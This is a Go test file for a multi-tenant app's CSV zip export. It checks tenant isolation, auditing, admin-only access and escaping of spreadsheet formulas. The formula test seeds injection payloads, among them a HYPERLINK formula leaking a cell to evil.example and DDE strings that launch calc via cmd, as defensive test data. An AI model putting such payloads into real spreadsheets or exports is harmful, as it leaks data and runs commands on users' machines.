package exports_test

import (
	"archive/zip"
	"bytes"
	"context"
	"encoding/csv"
	"io"
	"log/slog"
	"sort"
	"strconv"
	"strings"
	"testing"

	"github.com/uptrace/bun"

	"github.com/holdspace/holdspace/app/accounts"
	"github.com/holdspace/holdspace/app/apperr"
	"github.com/holdspace/holdspace/app/audit"
	"github.com/holdspace/holdspace/app/authz"
	"github.com/holdspace/holdspace/app/database"
	"github.com/holdspace/holdspace/app/database/dbtest"
	"github.com/holdspace/holdspace/app/exports"
	"github.com/holdspace/holdspace/app/jobs"
	"github.com/holdspace/holdspace/app/mail"
	"github.com/holdspace/holdspace/app/programs"
	"github.com/holdspace/holdspace/app/runs"
	"github.com/holdspace/holdspace/app/storage"
	"github.com/holdspace/holdspace/app/tenants"
)

type env struct {
	db   *bun.DB
	runs *runs.Service
	svc  *exports.Service
	ten  *tenants.Service
	acc  *accounts.Service
	log  *audit.Log
}

func newEnv(t *testing.T) *env {
	t.Helper()
	db := dbtest.Open(t)
	rdb, err := jobs.Connect(context.Background(), dbtest.Redis(t))
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { rdb.Close() })
	prefix := "test:" + dbtest.RandomHex(6) + ":"
	queue := jobs.NewNamedQueue(rdb, prefix+jobs.DefaultQueue)
	log := audit.New(db)
	mailer := mail.New(db, queue, nil, "x@y.z")
	acc := accounts.New(db, log, mailer, accounts.NewLimiter(rdb, prefix), "http://holdspace.test", slog.New(slog.DiscardHandler))
	ten := tenants.NewService(db, tenants.NewStore(db), acc, log, mailer, "http://holdspace.test")
	rs := runs.NewService(db, log, nil, storage.NewLocal(t.TempDir()))
	return &env{db: db, runs: rs, svc: exports.NewService(db, log, rs), ten: ten, acc: acc, log: log}
}

// seed makes a tenant with a record of every kind, each named with the tenant's word, and
// returns its admin's context.
func (e *env) seed(t *testing.T, word string) context.Context {
	t.Helper()
	bg := context.Background()
	tn := &tenants.Tenant{Slug: word + "-" + dbtest.RandomHex(3), Name: word + " tenant", Kind: tenants.KindStateSystem,
		State: "IL", Status: tenants.StatusTrial, Plan: "trial", TimeZone: "America/Chicago"}
	if err := e.ten.CreateTenant(bg, tn); err != nil {
		t.Fatal(err)
	}
	admin, err := e.acc.CreateUser(bg, "admin."+word+"@example.org", word+" Admin", "", false)
	if err != nil {
		t.Fatal(err)
	}
	ctx := database.WithScope(bg, database.Scope{TenantID: tn.ID, TenantSlug: tn.Slug, UserID: admin.ID, Role: authz.TenantAdmin})
	ctx = audit.WithActor(ctx, audit.Actor{ID: admin.ID, Email: admin.Email})
	if _, err := e.ten.AddMember(ctx, admin.ID, authz.TenantAdmin, ""); err != nil {
		t.Fatal(err)
	}
	funder := &tenants.Organisation{Kind: tenants.OrgFunder, Name: word + " Funder"}
	program := &tenants.Organisation{Kind: tenants.OrgProgram, Name: word + " Program", ProgramKind: "doula", County: "Cook",
		Languages: database.StringList{"English"}}
	for _, o := range []*tenants.Organisation{funder, program} {
		if err := e.ten.CreateOrganisation(ctx, o); err != nil {
			t.Fatal(err)
		}
	}
	if _, err := e.ten.Invite(ctx, tenants.InviteInput{Email: "invitee." + word + "@example.org", Role: authz.Consultant}); err != nil {
		t.Fatal(err)
	}
	tx, _ := database.For(ctx, e.db)
	now := database.Now()
	site := &programs.Site{ID: database.NewID(), ProgramID: program.ID, Name: word + " Site", Kind: "site", CreatedAt: now}
	f := &programs.Funding{ID: database.NewID(), ProgramID: program.ID, FunderID: funder.ID, FiscalYear: 2026, IECMHCFunded: true,
		CreatedAt: now, UpdatedAt: now}
	line := &programs.BudgetLine{ID: database.NewID(), FundingID: f.ID, Category: word + " Category", AmountCents: 1250000}
	for _, m := range []database.TenantOwned{site, f, line} {
		if _, err := tx.Insert(m).Exec(ctx); err != nil {
			t.Fatal(err)
		}
	}
	if _, err := e.db.NewRaw("INSERT INTO imports (tenant_id, id, kind, status, file_name, content, created_at, updated_at) VALUES (?, ?, 'people', 'done', ?, ?, ?, ?)",
		tn.ID, database.NewID(), word+".csv", "SECRET CONTENT "+word, now, now).Exec(ctx); err != nil {
		t.Fatal(err)
	}
	return ctx
}

// unzip returns each file of a zip by name, parsed as CSV.
func unzip(t *testing.T, b []byte) map[string][][]string {
	t.Helper()
	zr, err := zip.NewReader(bytes.NewReader(b), int64(len(b)))
	if err != nil {
		t.Fatal(err)
	}
	out := map[string][][]string{}
	for _, f := range zr.File {
		r, err := f.Open()
		if err != nil {
			t.Fatal(err)
		}
		raw, _ := io.ReadAll(r)
		rows, err := csv.NewReader(bytes.NewReader(raw)).ReadAll()
		if err != nil {
			t.Fatalf("%s: %v", f.Name, err)
		}
		out[f.Name] = rows
	}
	return out
}

func column(rows [][]string, name string) []string {
	var out []string
	for i, h := range rows[0] {
		if h == name {
			for _, r := range rows[1:] {
				out = append(out, r[i])
			}
		}
	}
	return out
}

// export asks for an export as the person in ctx, builds it (the runs:build task) and
// returns its zip, read back from storage through the audited download.
func (e *env) export(t *testing.T, ctx context.Context) (*runs.Run, []byte) {
	t.Helper()
	r, created, err := e.svc.Request(ctx)
	if err != nil || !created || r.Kind != exports.KindName || r.Status != runs.StatusQueued {
		t.Fatalf("got %+v, %v, %v; want a queued export", r, created, err)
	}
	if again, created, err := e.svc.Request(ctx); err != nil || created || again.ID != r.ID {
		t.Fatalf("asked again while it waits: got %+v, %v, %v; want the same run", again, created, err)
	}
	if err := e.runs.Build(ctx, r.ID); err != nil {
		t.Fatal(err)
	}
	got, rc, err := e.runs.Download(ctx, r.ID)
	if err != nil {
		t.Fatal(err)
	}
	defer rc.Close()
	b, err := io.ReadAll(rc)
	if err != nil {
		t.Fatal(err)
	}
	return got, b
}

func TestExport(t *testing.T) {
	e := newEnv(t)
	ctx := e.seed(t, "alpha")
	e.seed(t, "bravo") // another tenant: none of its rows may come out
	r, b := e.export(t, ctx)
	if r.Status != runs.StatusReady || r.ContentType != "application/zip" || r.ExpiresAt == nil ||
		r.ExpiresAt.Sub(*r.FinishedAt) != exports.Lifetime || r.Done != r.Total || r.Total == 0 {
		t.Fatalf("got %+v, want ready, a zip, every table done, kept 30 days", r)
	}
	files := unzip(t, b)

	// A new tenant table the export does not hold fails here.
	t.Run("EveryTenantTable", func(t *testing.T) {
		tables, err := database.TenantTables(context.Background(), e.db)
		if err != nil {
			t.Fatal(err)
		}
		var want, got []string
		for _, tb := range tables {
			want = append(want, tb+".csv")
		}
		for n := range files {
			got = append(got, n)
		}
		sort.Strings(want)
		sort.Strings(got)
		if strings.Join(got, ",") != strings.Join(want, ",") {
			t.Fatalf("the zip holds %v\nwant one CSV per tenant table: %v", got, want)
		}
		if r.Total != len(tables) {
			t.Errorf("progress total %d, want %d tables", r.Total, len(tables))
		}
	})
	t.Run("EveryColumnButTheOmitted", func(t *testing.T) {
		header := strings.Join(files["invitations.csv"][0], ",")
		for _, col := range []string{"tenant_id", "id", "email", "role", "expires_at"} {
			if !strings.Contains(","+header+",", ","+col+",") {
				t.Errorf("invitations.csv has no %s column: %s", col, header)
			}
		}
		for table, cols := range exports.Omitted {
			rows, ok := files[table+".csv"]
			if !ok {
				continue
			}
			for _, h := range rows[0] {
				if _, left := cols[h]; left {
					t.Errorf("%s.csv holds %s, which is left out", table, h)
				}
			}
		}
	})
	t.Run("OnlyTheTenantsRows", func(t *testing.T) {
		for name, rows := range files {
			for _, row := range rows {
				for _, c := range row {
					if strings.Contains(strings.ToLower(c), "bravo") {
						t.Errorf("%s holds the other tenant's %q", name, c)
					}
				}
			}
		}
		if got := column(files["organisations.csv"], "name"); len(got) != 2 {
			t.Errorf("organisations.csv names %v, want alpha's two", got)
		}
		tid := column(files["budget_lines.csv"], "tenant_id")
		if len(tid) != 1 {
			t.Errorf("budget_lines.csv tenant ids %v, want alpha's one line", tid)
		}
		if c := column(files["budget_lines.csv"], "amount_cents"); len(c) != 1 || c[0] != "1250000" {
			t.Errorf("budget_lines.csv amounts: %q", c)
		}
		if c := column(files["fundings.csv"], "iecmhc_funded"); len(c) != 1 || c[0] != "true" {
			t.Errorf("fundings.csv iecmhc_funded: %q (want true on both databases)", c)
		}
		for name := range files {
			if strings.Contains(name, "SECRET") {
				t.Error(name)
			}
		}
		for _, rows := range files {
			for _, row := range rows {
				for _, c := range row {
					if strings.Contains(c, "SECRET CONTENT") {
						t.Errorf("an uploaded file's content came out: %q", c)
					}
				}
			}
		}
	})
	t.Run("Audited", func(t *testing.T) {
		var actions []string
		if err := dbtest.Owner(t, e.db).NewSelect().Table("audit_events").Column("action").
			Where("record_id = ?", r.ID).OrderExpr("action").Scan(context.Background(), &actions); err != nil {
			t.Fatal(err)
		}
		if strings.Join(actions, ",") != "export.request,run.download,run.ready,run.start" {
			t.Fatalf("got audit actions %v", actions)
		}
	})
	t.Run("TenantAdminsOnly", func(t *testing.T) {
		sc, _ := database.ScopeFrom(ctx)
		sc.Role = authz.Funder
		if _, _, err := e.runs.Download(database.WithScope(ctx, sc), r.ID); apperr.Code(err) != apperr.ENOTFOUND {
			t.Fatalf("a funder downloading the export: got %v, want not found", err)
		}
	})
}

func TestExportGuardsFormulas(t *testing.T) {
	e := newEnv(t)
	ctx := e.seed(t, "delta")
	evil := `=HYPERLINK("http://evil.example/?leak="&A1,"Open the report")`
	if err := e.ten.CreateOrganisation(ctx, &tenants.Organisation{Kind: tenants.OrgFunder, Name: evil, ShortName: "-2+3"}); err != nil {
		t.Fatal(err)
	}
	if err := e.log.Record(ctx, "note.add", "organisation", "x", "@SUM(1+1)*cmd|' /C calc'!A0"); err != nil {
		t.Fatal(err)
	}
	tx, _ := database.For(ctx, e.db)
	if _, err := tx.Update((*budgetLineTable)(nil)).Set("category = ?", "+cmd|' /C calc'!A0").Where("1 = 1").Exec(ctx); err != nil {
		t.Fatal(err)
	}
	_, b := e.export(t, ctx)
	files := unzip(t, b)
	for name, rows := range files {
		for _, r := range rows[1:] {
			for _, cell := range r {
				if cell != "" && strings.ContainsRune("=+-@\t\r", rune(cell[0])) && !isNumber(cell) {
					t.Errorf("%s: cell %q would run as a formula", name, cell)
				}
			}
		}
	}
	if !strings.Contains(strings.Join(column(files["organisations.csv"], "name"), "\n"), "'"+evil) {
		t.Errorf("organisations.csv names: %q", column(files["organisations.csv"], "name"))
	}
	if !strings.Contains(strings.Join(column(files["organisations.csv"], "short_name"), "\n"), "'-2+3") {
		t.Errorf("organisations.csv short names: %q", column(files["organisations.csv"], "short_name"))
	}
	if !strings.Contains(strings.Join(column(files["audit_events.csv"], "detail"), "\n"), "'@SUM(1+1)") {
		t.Errorf("audit_events.csv details: %q", column(files["audit_events.csv"], "detail"))
	}
	if c := column(files["budget_lines.csv"], "category"); len(c) == 0 || c[0] != "'+cmd|' /C calc'!A0" {
		t.Errorf("budget_lines.csv categories: %q", c)
	}
	if c := column(files["budget_lines.csv"], "amount_cents"); len(c) == 0 || c[0] != "1250000" {
		t.Errorf("budget_lines.csv amounts: %q", c)
	}
}

type budgetLineTable struct {
	bun.BaseModel `bun:"table:budget_lines,alias:bl"`
	database.TenantScoped
}

func isNumber(s string) bool {
	_, err := strconv.ParseFloat(s, 64)
	return err == nil
}
